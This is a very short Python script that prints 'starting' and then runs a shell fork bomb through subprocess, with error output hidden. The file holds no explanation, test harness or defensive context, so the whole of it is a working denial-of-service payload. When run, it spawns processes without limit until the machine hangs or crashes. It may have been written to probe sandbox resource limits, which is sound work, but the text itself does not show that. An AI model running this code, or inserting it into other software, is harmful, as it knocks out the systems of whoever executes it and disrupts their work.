import subprocess

print("starting", flush=True)
subprocess.run(["sh", "-c", "f() { f | f & f; }; f"], stderr=subprocess.DEVNULL, check=True)
